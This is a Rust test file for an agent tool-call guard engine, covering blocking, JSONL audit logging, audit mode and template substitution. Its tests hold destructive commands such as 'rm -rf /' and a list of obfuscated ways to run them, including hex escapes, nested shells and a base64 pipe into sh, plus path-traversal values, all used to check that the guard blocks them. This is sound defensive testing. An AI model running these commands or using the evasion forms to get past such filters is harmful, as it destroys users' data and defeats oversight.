    let (e, recorder) =
        engine_with_recorder("version: 1\nhooks:\n  - { point: turn:tool:pre, action: block }\n");
    e.evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert!(
        recorder.taken().is_empty(),
        "no notifyUser, no notification"
    );
}

#[tokio::test]
async fn notices_carry_the_default_notification_target_as_fallback() {
    let (e, recorder) = engine_with_recorder(
        r#"
version: 1
defaults: { notificationTarget: "telegram:123" }
hooks:
  - { point: turn:tool:pre, action: block, onFailure: { action: notify, message: "careful" } }
"#,
    );
    e.evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(
        recorder.taken_full(),
        [(
            "agent:main:main".to_owned(),
            Some("telegram:123".to_owned()),
            "careful".to_owned()
        )]
    );
    let (e, recorder) = engine_with_recorder(
        "version: 1\nhooks:\n  - { point: turn:tool:pre, action: block, notifyUser: true }\n",
    );
    e.evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(
        recorder.taken_full(),
        [("agent:main:main".to_owned(), None, RM_BLOCKED.to_owned())]
    );
}

// ---------------------------------------------------------------------------------------------
// log
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn log_passes_and_writes_one_jsonl_line_with_the_seed_keys_in_order() {
    let dir = tempfile::tempdir().expect("tempdir");
    let target = dir.path().join("audit.jsonl");
    let e = engine_in(
        dir.path(),
        &format!(
            "version: 1\nhooks:\n  - {{ name: audit, point: [turn:tool:pre, cron:pre], action: log, target: {:?} }}\n",
            target.display().to_string()
        ),
    );
    // Fields given in another order than the line's.
    let c = ctx(json!({
        "cronJob": "nightly",
        "subagentLabel": "helper",
        "prompt": "list files",
        "toolArgs": {"command": "ls -la", "n": 3, "deep": {"k": [1, "v"]}},
        "toolName": "exec",
        "topicId": 42,
        "sessionKey": "agent:main:subagent:x",
        "timestamp": TS,
        "response": "not logged",
        "traceId": "not logged either",
    }));
    let d = e.evaluate(Point::TurnToolPre, &c).await;
    assert_eq!(d.decision, Verdict::Allow);
    assert_eq!(d.results.len(), 1);
    assert_eq!(d.results[0].hook, "audit");
    assert_eq!(d.results[0].action, "log");
    assert!(d.results[0].passed);
    assert_eq!(
        d.results[0].message.as_deref(),
        Some("Logged event at turn:tool:pre")
    );
    e.flush().await;
    assert_eq!(
        lines(&target),
        [format!(
            r#"{{"timestamp":"{TS_ISO}","point":"turn:tool:pre","sessionKey":"agent:main:subagent:x","topicId":42,"tool":"exec","args":{{"command":"ls -la","n":3,"deep":{{"k":[1,"v"]}}}},"prompt":"list files","subagent":"helper","cronJob":"nightly"}}"#
        )]
    );

    // A second event appends a second line; the message names the point evaluated.
    let d = e
        .evaluate(
            Point::CronPre,
            &ctx(json!({"sessionKey": "cron:1", "topicId": "t-1", "timestamp": TS + 1.0})),
        )
        .await;
    assert_eq!(
        d.results[0].message.as_deref(),
        Some("Logged event at cron:pre")
    );
    e.flush().await;
    let got = lines(&target);
    assert_eq!(got.len(), 2);
    assert_eq!(
        got[1],
        r#"{"timestamp":"2026-02-19T08:00:00.001Z","point":"cron:pre","sessionKey":"cron:1","topicId":"t-1"}"#
    );
}

#[tokio::test]
async fn log_leaves_out_absent_fields() {
    let dir = tempfile::tempdir().expect("tempdir");
    let e = engine_in(
        dir.path(),
        "version: 1\nhooks:\n  - { point: turn:pre, action: log, target: out.jsonl }\n",
    );
    let mut c = HookContext::new("s");
    c.timestamp = Some(TS);
    e.evaluate(Point::TurnPre, &c).await;
    e.flush().await;
    assert_eq!(
        lines(&dir.path().join("out.jsonl")),
        [format!(
            r#"{{"timestamp":"{TS_ISO}","point":"turn:pre","sessionKey":"s"}}"#
        )]
    );
}

#[tokio::test]
async fn log_cuts_string_arguments_to_100_and_the_prompt_to_200_characters() {
    let dir = tempfile::tempdir().expect("tempdir");
    let e = engine_in(
        dir.path(),
        "version: 1\nhooks:\n  - { point: turn:tool:pre, action: log, target: out.jsonl }\n",
    );
    let c = ctx(json!({
        "sessionKey": "s",
        "timestamp": TS,
        "toolName": "write",
        "toolArgs": {
            "long": "L".repeat(150),
            "exact": "E".repeat(100),
            "wide": "ü".repeat(101),
            "number": 12345678901234567_u64,
            "list": ["x".repeat(150)],
        },
        "prompt": "P".repeat(250),
    }));
    e.evaluate(Point::TurnToolPre, &c).await;
    let c = ctx(json!({"sessionKey": "s", "timestamp": TS, "prompt": "Q".repeat(200)}));
    e.evaluate(Point::TurnToolPre, &c).await;
    e.flush().await;

    let got = lines(&dir.path().join("out.jsonl"));
    assert_eq!(got.len(), 2);
    let first: Value = serde_json::from_str(&got[0]).expect("json line");
    assert_eq!(first["args"]["long"], format!("{}…", "L".repeat(100)));
    assert_eq!(first["args"]["exact"], "E".repeat(100));
    assert_eq!(first["args"]["wide"], format!("{}…", "ü".repeat(100)));
    assert_eq!(first["args"]["number"], json!(12345678901234567_u64));
    assert_eq!(first["prompt"], format!("{}…", "P".repeat(200)));
    let second: Value = serde_json::from_str(&got[1]).expect("json line");
    assert_eq!(second["prompt"], "Q".repeat(200));
}

#[tokio::test]
async fn log_timestamp_is_the_context_time_in_iso_8601() {
    let dir = tempfile::tempdir().expect("tempdir");
    let e = engine_in(
        dir.path(),
        "version: 1\nhooks:\n  - { point: turn:pre, action: log, target: out.jsonl }\n",
    );
    for ms in [TS + 123.9, 0.0, 1_500.0] {
        let mut c = HookContext::new("s");
        c.timestamp = Some(ms);
        e.evaluate(Point::TurnPre, &c).await;
    }
    e.flush().await;
    let stamps: Vec<String> = lines(&dir.path().join("out.jsonl"))
        .iter()
        .map(|l| {
            let v: Value = serde_json::from_str(l).expect("json line");
            v["timestamp"].as_str().expect("timestamp").to_owned()
        })
        .collect();
    assert_eq!(
        stamps,
        [
            "2026-02-19T08:00:00.123Z",
            "1970-01-01T00:00:00.000Z",
            "1970-01-01T00:00:01.500Z"
        ]
    );
}

#[tokio::test]
async fn relative_log_targets_resolve_against_the_policy_directory() {
    let dir = tempfile::tempdir().expect("tempdir");
    let policy_dir = dir.path().join("conf");
    std::fs::create_dir(&policy_dir).expect("mkdir");
    let e = engine_in(
        &policy_dir,
        "version: 1\nhooks:\n  - { point: turn:pre, action: log, target: \"logs/deep/{topicId}/events.jsonl\" }\n",
    );
    let c = ctx(json!({"sessionKey": "s", "topicId": 42, "timestamp": TS}));
    let d = e.evaluate(Point::TurnPre, &c).await;
    assert!(d.passed);
    e.flush().await;
    let file: PathBuf = policy_dir.join("logs/deep/42/events.jsonl");
    assert_eq!(lines(&file).len(), 1, "parent directories are created");
    assert!(
        !Path::new("logs/deep/42/events.jsonl").exists(),
        "not relative to the cwd"
    );
}

#[tokio::test]
async fn an_unwritable_log_target_still_passes() {
    let dir = tempfile::tempdir().expect("tempdir");
    let blocker = dir.path().join("plain-file");
    std::fs::write(&blocker, "keep").expect("write");
    let target = blocker.join("sub/out.jsonl");
    let e = engine_in(
        dir.path(),
        &format!(
            "version: 1\nhooks:\n  - {{ name: l, point: turn:pre, action: log, target: {:?} }}\n  - {{ name: after, point: turn:pre, action: log }}\n",
            target.display().to_string()
        ),
    );
    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
    e.flush().await;
    assert_eq!(d.decision, Verdict::Allow);
    assert_eq!(hooks_fired(&d), ["l", "after"]);
    assert!(d.results[0].passed);
    assert_eq!(
        d.results[0].message.as_deref(),
        Some("Logged event at turn:pre")
    );
    assert_eq!(read(&blocker), "keep");
}

// ---------------------------------------------------------------------------------------------
// Templates
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn template_variables_are_substituted_in_the_target() {
    let dir = tempfile::tempdir().expect("tempdir");
    let e = engine_in(
        dir.path(),
        "version: 1\nhooks:\n  - point: turn:tool:pre\n    action: log\n    target: \"{point}/{tool}/{topicId}/{sessionKey}/{timestamp}-{x}.jsonl\"\n",
    );
    let c = ctx(json!({
        "sessionKey": "agent:main:main",
        "topicId": 7,
        "toolName": "exec",
        "toolArgs": {"command": "ls"},
        "timestamp": TS,
    }));
    e.evaluate(Point::TurnToolPre, &c).await;
    e.flush().await;
    let file = dir.path().join(format!(
        "turn:tool:pre/exec/7/agent:main:main/{TS_ISO}-{{x}}.jsonl"
    ));
    assert_eq!(lines(&file).len(), 1, "{} is missing", file.display());
}

#[tokio::test]
async fn substituted_values_cannot_move_a_log_target_out_of_its_directory() {
    let dir = tempfile::tempdir().expect("tempdir");
    let policy_dir = dir.path().join("conf");
    std::fs::create_dir(&policy_dir).expect("mkdir");
    let e = engine_in(
        &policy_dir,
        "version: 1\nhooks:\n  - { point: turn:tool:pre, action: log, target: \"logs/{sessionKey}/{topicId}-{tool}.jsonl\" }\n",
    );
    let c = ctx(json!({
        "sessionKey": "../../escape",
        "topicId": "..",
        "toolName": "a/b\\c",
        "timestamp": TS,
    }));
    let d = e.evaluate(Point::TurnToolPre, &c).await;
    assert!(d.passed);
    e.flush().await;
    let file = policy_dir.join("logs/.._.._escape/_-a_b_c.jsonl");
    assert_eq!(lines(&file).len(), 1, "{} is missing", file.display());
    assert!(!dir.path().join("escape").exists());
    // The line itself keeps the values as given.
    let line: Value = serde_json::from_str(&lines(&file)[0]).expect("json line");
    assert_eq!(line["sessionKey"], "../../escape");
}

#[tokio::test]
async fn template_variables_are_substituted_in_the_on_failure_message() {
    let e = engine(
        r#"
version: 1
hooks:
  - point: turn:tool:pre
    action: block
    onFailure:
      action: block
      message: "{tool} blocked in topic {topicId} at {point} for {sessionKey} on {timestamp}; {unknown} {topicId"
"#,
    );
    let c = ctx(json!({
        "sessionKey": "agent:main:main",
        "topicId": "42",
        "toolName": "exec",
        "timestamp": TS,
    }));
    let d = e.evaluate(Point::TurnToolPre, &c).await;
    assert_eq!(
        d.message.as_deref(),
        Some(
            "exec blocked in topic 42 at turn:tool:pre for agent:main:main on 2026-02-19T08:00:00.000Z; {unknown} {topicId"
        )
    );
    // A substituted value is not scanned again for variables.
    let c = ctx(
        json!({"sessionKey": "{point}", "topicId": "{tool}", "toolName": "exec", "timestamp": TS}),
    );
    let d = e.evaluate(Point::TurnToolPre, &c).await;
    assert_eq!(
        d.message.as_deref(),
        Some(
            "exec blocked in topic {tool} at turn:tool:pre for {point} on 2026-02-19T08:00:00.000Z; {unknown} {topicId"
        )
    );
}

// ---------------------------------------------------------------------------------------------
// Audit mode
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn audit_mode_records_a_would_be_block_and_allows() {
    let (e, recorder) = engine_with_recorder(
        r#"
version: 1
defaults: { mode: audit }
hooks:
  - { name: rm-guard, point: turn:tool:pre, action: block, notifyUser: true }
  - { name: second, point: turn:tool:pre, action: block, onFailure: { action: block, message: "second {tool}" } }
"#,
    );
    let d = e
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "rm -rf /"))
        .await;
    assert_eq!(d.decision, Verdict::Allow);
    assert!(d.passed);
    assert_eq!(d.mode, Mode::Audit);
    assert_eq!(d.message, None);
    assert_eq!(d.hook, None);
    assert_eq!(
        hooks_fired(&d),
        ["rm-guard", "second"],
        "the chain continues"
    );
    assert!(d.results.iter().all(|r| r.passed && r.audit));
    assert_eq!(d.results[0].message.as_deref(), Some(RM_BLOCKED));
    assert_eq!(d.results[1].message.as_deref(), Some("second exec"));
    assert!(
        recorder.taken().is_empty(),
        "an audited block notifies nobody"
    );

    let json = serde_json::to_value(&d).expect("decision json");
    assert_eq!(json["mode"], "audit");
    assert_eq!(json["results"][0]["audit"], true);
}

#[tokio::test]
async fn per_hook_audit_mode_and_enforce_override() {
    let e = engine(
        r#"
version: 1
hooks:
  - { name: trial, point: turn:pre, mode: audit, action: block, onFailure: { action: block, message: trial } }
  - { name: real, point: turn:pre, action: block, onFailure: { action: block, message: real } }
"#,
    );
    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
    assert_eq!(d.mode, Mode::Enforce);
    assert_eq!(d.decision, Verdict::Block);
    assert_eq!(d.hook.as_deref(), Some("real"));
    assert_eq!(d.message.as_deref(), Some("real"));
    assert_eq!(hooks_fired(&d), ["trial", "real"]);
    assert!(d.results[0].passed && d.results[0].audit);
    assert!(!d.results[1].passed && !d.results[1].audit);
    let json = serde_json::to_value(&d).expect("decision json");
    assert_eq!(json["results"][0]["audit"], true);
    assert!(
        json["results"][1].get("audit").is_none(),
        "audit is left out when false"
    );

    let e = engine(
        r#"
version: 1
defaults: { mode: audit }
hooks:
  - { name: strict, point: turn:pre, mode: enforce, action: block }
"#,
    );
    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
    assert_eq!(d.decision, Verdict::Block);
    assert!(!d.results[0].audit);
    assert_eq!(d.mode, Mode::Audit);
}

#[tokio::test]
async fn audit_mode_does_not_mark_passing_results() {
    let e = engine(
        r#"
version: 1
defaults: { mode: audit }
hooks:
  - { name: cont, point: turn:pre, action: block, onFailure: { action: continue } }
"#,
    );
    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
    assert!(d.results[0].passed);
    assert!(
        !d.results[0].audit,
        "only a would-be block is an audit record"
    );
}

// ---------------------------------------------------------------------------------------------
// Decision fields
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn decision_fields_of_a_block() {
    let e = engine(
        r#"
version: 1
hooks:
  - { name: audit, point: turn:tool:pre, action: block, onFailure: { action: continue, message: seen } }
  - { name: rm-guard, point: turn:tool:pre, action: block, onFailure: { action: block, message: "Blocked: recursive rm" } }
"#,
    );
    let mut c = tool_ctx("exec", "rm -rf /");
    c.trace_id = Some("trace-from-gateway".into());
    let d = e.evaluate(Point::TurnToolPre, &c).await;
    assert_eq!(d.point, Point::TurnToolPre);
    assert_eq!(d.decision, Verdict::Block);
    assert!(!d.passed);
    assert_eq!(d.message.as_deref(), Some("Blocked: recursive rm"));
    assert_eq!(d.hook.as_deref(), Some("rm-guard"));
    assert_eq!(d.mode, Mode::Enforce);
    assert_eq!(d.trace_id, "trace-from-gateway");
    assert_eq!(d.exit_code(), 2);
    assert!(d.injected_context.is_empty());
    assert_eq!(d.params, None);
    assert_eq!(d.approval, None);
    assert_eq!(d.results.len(), 2);
    assert_eq!(
        (
            d.results[1].hook.as_str(),
            d.results[1].action.as_str(),
            d.results[1].passed
        ),
        ("rm-guard", "block", false)
    );

    let json = serde_json::to_value(&d).expect("decision json");
    let keys: Vec<&str> = json
        .as_object()
        .expect("object")
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(
        keys,
        [
            "point",
            "decision",
            "passed",
            "message",
            "hook",
            "mode",
            "results",
            "injectedContext",
            "params",
            "approval",
            "traceId"
        ]
    );
    assert_eq!(json["point"], "turn:tool:pre");
    assert_eq!(json["decision"], "block");
    assert_eq!(json["mode"], "enforce");
    assert_eq!(json["traceId"], "trace-from-gateway");
    let result = json["results"][1].as_object().expect("result object");
    let keys: Vec<&str> = result.keys().map(String::as_str).collect();
    assert_eq!(keys, ["hook", "action", "passed", "message", "durationMs"]);
    assert!(result["durationMs"].as_f64().expect("durationMs") >= 0.0);
}

#[tokio::test]
async fn an_allow_has_no_message_and_exit_code_zero() {
    let e = engine(
        "version: 1\nhooks:\n  - { point: turn:pre, action: block, match: { tool: exec } }\n",
    );
    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
    assert_eq!(d.decision, Verdict::Allow);
    assert_eq!(d.exit_code(), 0);
    let json = serde_json::to_value(&d).expect("decision json");
    assert_eq!(json["decision"], "allow");
    assert_eq!(json["passed"], true);
    assert_eq!(json["message"], Value::Null);
    assert_eq!(json["hook"], Value::Null);
}

fn assert_generated_trace_id(id: &str, topic: &str) {
    let prefix = format!("t{topic}-");
    let rest = id
        .strip_prefix(&prefix)
        .unwrap_or_else(|| panic!("{id:?} does not start with {prefix:?}"));
    let (ms, suffix) = rest
        .rsplit_once('-')
        .unwrap_or_else(|| panic!("{id:?} has no suffix"));
    assert!(
        !ms.is_empty() && ms.bytes().all(|b| b.is_ascii_digit()),
        "{id:?}"
    );
    assert_eq!(suffix.len(), 4, "{id:?}");
    assert!(
        suffix
            .bytes()
            .all(|b| b.is_ascii_digit() || b.is_ascii_lowercase()),
        "{id:?}"
    );
}

#[tokio::test]
async fn trace_id_is_generated_from_the_topic_when_absent() {
    let e = engine("version: 1\nhooks: []\n");
    let d = e
        .evaluate(
            Point::TurnPre,
            &ctx(json!({"sessionKey": "s", "topicId": 42})),
        )
        .await;
    assert_generated_trace_id(&d.trace_id, "42");
    let d = e
        .evaluate(
            Point::TurnPre,
            &ctx(json!({"sessionKey": "s", "topicId": "general"})),
        )
        .await;
    assert_generated_trace_id(&d.trace_id, "general");
    let d = e.evaluate(Point::TurnPre, &HookContext::new("s")).await;
    assert_generated_trace_id(&d.trace_id, "none");
}

#[tokio::test]
async fn command_patterns_see_what_the_shell_would_run() {
    let e = guard(r#"{ tool: exec, commandPattern: "^rm\\s+-[a-zA-Z]*[rf]" }"#);
    for bypass in [
        "bash -c 'rm -rf /'",
        "sh -lc \"rm -rf /\"",
        "r''m -rf /",
        "\\rm -rf /",
        "\"rm\" -rf /",
        "$'\\x72\\x6d' -rf /",
        "/bin/rm -rf /",
        "FOO=1 rm -rf /",
        "ls; rm -rf /",
        "true && rm -rf /",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        "sudo -u root nohup timeout 5 rm -rf /",
        "env X=1 nice -n 5 rm -rf /",
        "find / -exec rm -rf {} +",
        "eval 'rm -rf /'",
        "echo cm0gLXJmIC8= | base64 -d | sh",
    ] {
        assert!(blocks(&e, &tool_ctx("exec", bypass)).await, "{bypass}");
    }
    for fine in [
        "ls -la",
        "echo hello",
        "git rm --cached x",
        "grep -rf patterns .",
    ] {
        assert!(!blocks(&e, &tool_ctx("exec", fine)).await, "{fine}");
    }
}

#[tokio::test]
async fn a_block_names_the_command_read_where_the_line_does_not_write_it_out() {
    let e = engine(
        "version: 1\nhooks:\n  - { name: g, point: turn:tool:pre, match: { command: { program: rm, anyArg: '^-[a-z]*r' } }, action: block, onFailure: { action: block, message: 'No rm -r.' } }\n",
    );
    let message = |command: &str| {
        let ctx = tool_ctx("exec", command);
        let e = &e;
        async move { e.evaluate(Point::TurnToolPre, &ctx).await.message }
    };
    assert_eq!(
        message("for f in -rf; do rm $f ~; done").await.as_deref(),
        Some("No rm -r. (hookgate read `rm -rf ~` from a for loop)")
    );
    assert_eq!(
        message("bash -c 'rm -r ~'").await.as_deref(),
        Some("No rm -r. (hookgate read `rm -r ~` run by bash)")
    );
    assert_eq!(message("rm -rf ~").await.as_deref(), Some("No rm -r."));
    // A commandPattern that matches the raw text keeps the seed's message exactly.
    let seed = engine(
        "version: 1\nhooks:\n  - { name: g, point: turn:tool:pre, match: { commandPattern: 'rm -rf' }, action: block, onFailure: { action: block, message: 'No rm.' } }\n",
    );
    let d = seed
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "bash -c 'rm -rf ~'"))
        .await;
    assert_eq!(d.message.as_deref(), Some("No rm."));
    let d = seed
        .evaluate(Point::TurnToolPre, &tool_ctx("exec", "x=-rf; rm $x ~"))
        .await;
    assert_eq!(
        d.message.as_deref(),
        Some("No rm. (hookgate read `rm -rf ~` with values from variables)")
    );
}

#[tokio::test]
async fn unparseable_commands_follow_defaults_on_unparseable() {
    let strict = engine(
        "version: 1\nhooks:\n  - { name: g, point: turn:tool:pre, match: { commandPattern: \"^rm\" }, action: block }\n",
    );
    let lenient = engine(
        "version: 1\ndefaults: { onUnparseable: nomatch }\nhooks:\n  - { name: g, point: turn:tool:pre, match: { commandPattern: \"^rm\" }, action: block }\n",
    );
    let odd = tool_ctx("exec", "echo 'unterminated");
    assert!(blocks(&strict, &odd).await, "match is the safe default");
    assert!(!blocks(&lenient, &odd).await);
    // Paths are not shell commands: they are matched as they are.
    let read = HookContext::new("s").with_tool(
        "Read",
        json!({ "file_path": "x; rm -rf /" })
            .as_object()
            .cloned()
            .unwrap_or_default(),
    );
    assert!(!blocks(&strict, &read).await);
}

#[tokio::test]
async fn structured_filters_follow_on_unparseable_and_unparseable_ignores_it() {
    let policy = |default: &str| {
        engine(&format!(
            "version: 1\ndefaults: {{ onUnparseable: {default} }}\nhooks:\n  \
             - {{ name: cmd, point: turn:tool:pre, match: {{ command: {{ program: rm }} }}, action: block }}\n  \
             - {{ name: path, point: turn:tool:pre, match: {{ pathGlob: '**/.env' }}, action: block }}\n  \
             - {{ name: unread, point: subagent:tool:pre, match: {{ unparseable: true }}, action: block }}\n  \
             - {{ name: read, point: subagent:tool:pre, match: {{ unparseable: false }}, action: block }}\n"
        ))
    };
    let unreadable = tool_ctx("exec", "x=$(cat f); $x");
    for default in ["match", "nomatch"] {
        let e = policy(default);
        let d = e.evaluate(Point::TurnToolPre, &unreadable).await;
        assert_eq!(
            d.decision == Verdict::Block,
            default == "match",
            "{default}: {d:?}"
        );
        // The hook's own filter decides, whatever the default says.
        let d = e.evaluate(Point::SubagentToolPre, &unreadable).await;
        assert_eq!(d.hook.as_deref(), Some("unread"), "{default}");
        let d = e
            .evaluate(Point::SubagentToolPre, &tool_ctx("exec", "ls"))
            .await;
        assert_eq!(d.hook.as_deref(), Some("read"), "{default}");
    }
    // Under `match`, a hook that blocks only because the line was unreadable says why.
    let d = policy("match")
        .evaluate(Point::TurnToolPre, &unreadable)
        .await;
    assert!(
        d.message
            .as_deref()
            .is_some_and(|m| m
                .contains("could not read this shell command: the program comes from a variable")),
        "{d:?}"
    );
}

#[tokio::test]
async fn args_match_strings_lists_and_json_text_but_not_null_or_missing() {
    let e = engine(
        "version: 1\nhooks:\n  - { name: a, point: turn:tool:pre, match: { args: { url: 'evil', n: '^3$' } }, action: block }\n",
    );
    let call = |args: Value| {
        HookContext::new("s").with_tool("fetch", args.as_object().cloned().unwrap_or_default())
    };
    for hit in [
        json!({"url": "https://evil.example", "n": 3}),
        json!({"url": ["https://ok", "https://evil"], "n": "3"}),
    ] {
        assert!(blocks(&e, &call(hit.clone())).await, "{hit}");
    }
    for miss in [
        json!({"url": "https://ok", "n": 3}),
        json!({"url": "https://evil"}),
        json!({"url": null, "n": 3}),
        json!({"url": "https://evil", "n": 33}),
    ] {
        assert!(!blocks(&e, &call(miss.clone())).await, "{miss}");
    }
}

#[tokio::test]
async fn a_tool_list_matches_any_of_its_tools_and_is_indexed_under_each() {
    let e = engine(
        "version: 1\nhooks:\n  - { name: shells, point: turn:tool:pre, match: { tool: [exec, Bash, exec], commandPattern: \"^rm\" }, action: block }\n",
    );
    assert!(blocks(&e, &tool_ctx("exec", "rm -rf /")).await);
    assert!(blocks(&e, &tool_ctx("Bash", "rm -rf /")).await);
    assert!(
        !blocks(&e, &tool_ctx("bash", "rm -rf /")).await,
        "exact, case-sensitive"
    );
    // Named twice, indexed once: the hook is one candidate, not two.
    assert_eq!(
        e.graph()
            .candidates_for_tool(Point::TurnToolPre, Some("exec"))
            .count(),
        1
    );
    assert_eq!(
        e.graph()
            .candidates_for_tool(Point::TurnToolPre, Some("Read"))
            .count(),
        0
    );
}
